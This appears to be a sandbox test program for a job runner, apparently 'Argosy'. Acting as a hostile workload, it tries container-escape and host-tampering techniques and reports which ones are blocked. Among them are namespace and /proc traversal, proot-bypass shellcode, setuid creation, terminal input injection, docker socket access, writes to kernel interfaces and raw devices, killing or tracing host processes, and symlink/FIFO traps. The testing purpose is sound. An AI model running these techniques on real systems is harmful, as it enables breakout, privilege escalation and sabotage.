# ruff: noqa: PTH101, PTH104, PTH105, PTH110, PTH112, PTH115, PTH116, PTH207, PTH211
"""A training program that tries to get at its host.

Prints `HELD name` or `WORKED name` for each attempt."""

import ctypes
import fcntl
import glob
import json
import mmap
import os
import shutil
import signal
import socket
import subprocess
import sys
import termios
from collections.abc import Callable
from pathlib import Path

ATTEMPT, CANARIES = sys.argv[1], sys.argv[3:]
HOST: dict[str, int] = json.loads(sys.argv[2])
"""Numbers of the user's host objects: a process, a terminal, shared memory, a queue, a key."""
NEXT = ATTEMPT.rpartition(".")[0] + ".1"
LIBC = ctypes.CDLL(None, use_errno=True)
JOB = Path("/job")
ATTEMPTS: dict[str, Callable[[], object]] = {}


def call(name: str, *arguments: object) -> None:
    if getattr(LIBC, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)


def write(path: str | Path) -> None:
    with Path(path).open("a") as file:
        file.write("hostile")


def mount(source: bytes, target: bytes, kind: bytes, flags: int) -> None:
    call("mount", source, target, kind, ctypes.c_ulong(flags), b"")


def as_root_of_a_namespace(then: Callable[[], object]) -> None:
    """Enter a user namespace in a child process."""
    child = os.fork()
    if child == 0:
        try:
            call("unshare", 0x10000000 | 0x20000)
            then()
            os._exit(0)
        except BaseException:
            os._exit(1)
    if os.waitpid(child, 0)[1]:
        raise OSError("refused")


def through_proc() -> None:
    """Find a process with the host's root."""
    for root in glob.glob("/proc/[0-9]*/root"):
        for canary in CANARIES:
            write(f"{root}{canary}")
            return


def through_descriptors() -> None:
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            is_folder = os.path.isdir(link) and not os.readlink(link).startswith("/proc")
        except OSError:
            continue
        for canary in CANARIES if is_folder else ():
            if os.path.exists(f"{link}/../../../../../..{canary}"):
                write(f"{link}/../../../../../..{canary}")
                return
    raise OSError("none leads out")


HOST_FILES = [
    *("run.json", "job.sbatch", "job.json", "provenance.json", "result.json", "attempt"),
    *(f"attempts/{ATTEMPT}/{name}" for name in ("verdict.json", "claim.json", "warning")),
    *(f"attempts/{ATTEMPT}/{name}" for name in ("not-started.json", "time-limit", "launched")),
    *(f"logs/{ATTEMPT}/{name}" for name in ("job.log", "node-0.log")),
]
for name in HOST_FILES:
    ATTEMPTS[f"write {name}"] = lambda name=name: write(JOB / name)
for name in ("run.json", "job.sbatch", f"attempts/{ATTEMPT}/claim.json"):
    ATTEMPTS[f"remove {name}"] = lambda name=name: (JOB / name).unlink()
    ATTEMPTS[f"replace {name}"] = lambda name=name: os.replace(write_own(), JOB / name)
for name in ("attempts", "records", "logs", "checkpoints"):
    ATTEMPTS[f"make {name} of the next attempt"] = lambda name=name: (JOB / name / NEXT).mkdir()
    ATTEMPTS[f"swap {name} for a link"] = lambda name=name: (
        os.rename(JOB / name, JOB / f"{name}-old"),
        os.symlink("/tmp", JOB / name),
    )
for name in (f"records/{ATTEMPT}", f"logs/{ATTEMPT}/ranks", "output"):
    ATTEMPTS[f"swap the mount {name}"] = lambda name=name: os.rename(
        JOB / name, JOB / f"{name}-old"
    )
for path in ("/argosy/verdict.py", "/argosy/claim.py", "/argosy/agent/hostile.py"):
    ATTEMPTS[f"write {path}"] = lambda path=path: write(path)
for path in ("/workloads/train.py", "/workloads/hostile.py", "/run/argosy/driver/libcuda.so"):
    ATTEMPTS[f"write {path}"] = lambda path=path: write(path)
for target in ("/job", "/argosy", "/workloads"):
    ATTEMPTS[f"remount {target}"] = lambda target=target: (
        mount(b"none", target.encode(), b"", 32 | 4096),
        write(f"{target}/hostile"),
    )
    ATTEMPTS[f"remount {target} in a namespace"] = lambda target=target: as_root_of_a_namespace(
        lambda: (mount(b"none", target.encode(), b"", 32 | 4096), write(f"{target}/hostile"))
    )
    ATTEMPTS[f"unmount {target} in a namespace"] = lambda target=target: as_root_of_a_namespace(
        lambda: (call("umount2", target.encode(), 2), write(f"{target}/hostile"))
    )
for path in (
    *("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"),
    *("/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/sys/fs/cgroup/release_agent"),
    *("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port", "/dev/sda", "/dev/vda"),
):
    ATTEMPTS[f"write {path}"] = lambda path=path: write_existing(path)


def write_existing(path: str) -> None:
    descriptor = os.open(path, os.O_WRONLY)
    os.write(descriptor, b"x")


def write_own() -> Path:
    own = JOB / "output/own"
    own.write_text("hostile")
    return own


def make_device() -> None:
    os.mknod("/tmp/mem", 0o600 | 0o020000, os.makedev(1, 1))
    os.open("/tmp/mem", os.O_RDONLY)


ATTEMPTS |= {
    "canaries by their paths": lambda: [write_existing(path) for path in CANARIES],
    "/proc/*/root": through_proc,
    "/proc/*/fd": through_descriptors,
    "mount": lambda: mount(b"none", b"/tmp", b"tmpfs", 0),
    "pivot_root": lambda: call("syscall", 155, b"/tmp", b"/tmp"),
    "a device": make_device,
    "an open file by its handle": lambda: call("open_by_handle_at", -100, b"\0" * 16, 0),
    "push input into the terminal": lambda: [
        fcntl.ioctl(0, termios.TIOCSTI, bytes([each])) for each in b"touch /tmp/hostile\n"
    ],
    "setns": lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "a hard link to a host's file": lambda: os.link(JOB / "run.json", JOB / "output/linked"),
    "a hard link to the runtime": lambda: os.link("/argosy/verdict.py", JOB / "output/linked2"),
    "a host's socket": lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"),
    "another user's rights": lambda: os.setuid(12345),
    "a setuid program": lambda: subprocess.run(["su", "-c", "true"], check=True, timeout=5),
}


def chmod(path: str, call: Callable[[], object] | None = None) -> None:
    """Change a mode, and check the result."""
    before = os.stat(path).st_mode
    call() if call else os.chmod(path, before ^ 0o022)
    if os.stat(path).st_mode == before:
        raise OSError("without effect")


def set_times(path: str) -> None:
    os.utime(path, (7, 7))
    if os.stat(path).st_mtime != 7:
        raise OSError("without effect")


def by_open_tree() -> None:
    tree = LIBC.syscall(428, -100, CANARIES[0].encode(), 0)
    os.close(os.dup(tree))
    chmod(f"/proc/self/fd/{tree}")


def by_interrupt(name: str, mode: int) -> None:
    """Call the 32-bit chmod(2), whose number proot reads as another call."""
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    path = name.encode()
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    #         push rbx; mov eax, 15; mov ebx, path; mov ecx, 0o666; int 0x80; pop rbx; ret
    text = b"\x53\xb8" + (15).to_bytes(4, "little")
    text += b"\xbb" + (address + 64).to_bytes(4, "little") + b"\xb9" + mode.to_bytes(4, "little")
    memory[: len(text) + 4] = text + b"\xcd\x80\x5b\xc3"
    memory[64 : 65 + len(path)] = path + b"\0"
    if (code := ctypes.CFUNCTYPE(ctypes.c_int)(address)()) < 0:
        raise OSError(-code, "chmod")


def become(call: Callable[[str], object]) -> None:
    call(own := str(write_own()))
    if not os.stat(own).st_mode & 0o4000:
        raise OSError("without effect")


def untraced(then: Callable[[], object]) -> None:
    """Run in an untraced child (CLONE_UNTRACED), whose paths proot does not rewrite."""
    arguments = (ctypes.c_uint64 * 11)(0x800000, 0, 0, 0, signal.SIGCHLD)
    child = LIBC.syscall(435, arguments, ctypes.sizeof(arguments))
    if child == 0:
        try:
            then()
            os._exit(0)
        except BaseException:
            os._exit(1)
    if child < 0 or os.waitpid(child, 0)[1]:
        raise OSError("refused")


def number(name: str) -> int:
    """Return a number of the host; a process in the namespace may have the same one."""
    if name == "process" and os.getpid() < 100:
        raise OSError("of another namespace")
    return HOST[name]


def read_memory() -> None:
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(number("memory"), None, 0)
    if address == ctypes.c_void_p(-1).value:
        raise OSError("refused")
    ctypes.memmove(address, b"hostile", 7)


def renice(which: int, who: int) -> None:
    call("setpriority", which, who, 19)


def for_process(*arguments: object) -> Callable[[], None]:
    return lambda: call("syscall", arguments[0], number("process"), *arguments[1:])


LIMIT, IDLE, ONE = (ctypes.c_uint64 * 2)(1, 1), ctypes.c_int(0), ctypes.c_uint64(1)
ATTRIBUTES = (ctypes.c_uint32 * 12)(48, 5)
ATTEMPTS |= {
    "mode by open_tree": by_open_tree,
    "mode by int 0x80": lambda: by_interrupt(CANARIES[0], 0o666),
    "mode by x32": lambda: call("syscall", 0x40000000 | 90, CANARIES[0].encode(), 0o666),
    "mode by fchmodat2": lambda: call("syscall", 452, -100, CANARIES[0].encode(), 0o666, 0),
    "mode untraced": lambda: untraced(lambda: chmod(CANARIES[0])),
    "times untraced": lambda: untraced(lambda: set_times(CANARIES[0])),
    "times of the image": lambda: set_times("/etc/passwd"),
    "access list": lambda: untraced(lambda: os.setxattr(CANARIES[0], "user.a", b"b")),
    "mode of the image": lambda: chmod("/etc/passwd"),
    "mode of the image's folder": lambda: chmod("/etc"),
    "mode of an open file of the image": lambda: chmod(
        "/etc/passwd", lambda: os.fchmod(os.open("/etc/passwd", os.O_RDONLY), 0o666)
    ),
    "a setuid program of its own": lambda: become(lambda path: os.chmod(path, 0o4755)),
    "one by int 0x80": lambda: become(lambda path: by_interrupt(path, 0o4755)),
    "one untraced": lambda: untraced(lambda: become(lambda path: os.chmod(path, 0o4755))),
    "io_uring": lambda: call("syscall", 425, 8, (ctypes.c_uint32 * 30)()),
    "seccomp": lambda: call("syscall", 317, 2, 0, ctypes.byref(ctypes.c_uint32(0x7FC00000))),
    "bpf": lambda: call("syscall", 321, 5, (ctypes.c_uint32 * 32)(), 128),
    "userfaultfd": lambda: call("syscall", 323, 1),
    "limits of another": for_process(302, 7, LIMIT, None),
    "processor of another": for_process(203, 8, ctypes.byref(ONE)),
    "class of another": for_process(144, 5, ctypes.byref(IDLE)),
    "attributes of another": for_process(314, ATTRIBUTES, 0),
    "priority of another": lambda: renice(0, number("process")),
    "priority of a group": lambda: renice(1, number("process")),
    "priority of all": lambda: renice(2, 0),
    "disk of another": lambda: call("syscall", 251, 1, number("process"), 3 << 13),
    "end another": lambda: os.kill(number("process"), signal.SIGKILL),
    "end another's group": lambda: os.killpg(number("process"), signal.SIGKILL),
    "end another's thread": for_process(200, signal.SIGKILL),
    "trace another": lambda: call("ptrace", 16, number("process"), 0, 0),
    "descriptor of another": for_process(434, 0),
    "first victim": lambda: write_existing(f"/proc/{number('process')}/oom_score_adj"),
    "name of another": lambda: write_existing(f"/proc/{number('process')}/comm"),
    "environment of another": lambda: Path(f"/proc/{number('process')}/environ").read_text(),
    "files of another": lambda: os.readlink(f"/proc/{number('process')}/fd/0"),
    "shared memory": read_memory,
    "a queue": lambda: call("msgsnd", number("queue"), b"\1" + bytes(15), 1, 0o4000),
    "a key": lambda: call("syscall", 250, 11, number("key"), ctypes.create_string_buffer(64), 64),
    "a queue by name": lambda: call("syscall", 241, b"argosy-hostile"),
    "a terminal": lambda: os.open(f"/dev/pts/{number('terminal')}", os.O_RDWR | os.O_NOCTTY),
    "an abstract socket": lambda: socket.socket(socket.AF_UNIX).connect(
        f"\0argosy-{number('process')}"
    ),
    "/dev/shm": lambda: Path(f"/dev/shm/argosy-{number('process')}").read_text(),
}


def plant() -> None:
    """Write traps to all writable folders: links out, FIFOs, endless and hostile JSON."""
    records, ranks = JOB / "records" / ATTEMPT, JOB / "logs" / ATTEMPT / "ranks"
    for number, canary in enumerate(CANARIES):
        for name in ("verdict.json", "claim.json", "warning", "launched", "not-started.json"):
            trap = records / f"{name}.{number}.tmp"
            trap.symlink_to(canary)
        os.symlink(canary, ranks / f"rank-{number}.log")
    for name in ("verdict.json", "claim.json", "not-started.json"):
        (records / name).symlink_to(CANARIES[0])
    (records / "result.json").write_text('{"schema_version": 2, "state": "completed"}')
    os.mkfifo(records / "node-0.json")
    os.mkfifo(JOB / "checkpoints" / ATTEMPT / "checkpoint.json")
    for name in ("rank-0.steps", "rank-0.jsonl"):
        os.symlink("/dev/zero", records / name)
    # Replaces the file with the command's exit status.
    shutil.rmtree("/run/argosy/status", ignore_errors=True)
    os.mkfifo("/run/argosy/status")


for name, attempt in ATTEMPTS.items():
    signal.alarm(20)
    try:
        attempt()
        print("WORKED", name, flush=True)
    except (OSError, subprocess.SubprocessError, AttributeError):
        print("HELD", name, flush=True)
signal.alarm(0)
plant()
print(len(ATTEMPTS), "attempts", flush=True)
os.kill(os.getpid(), signal.SIGKILL)
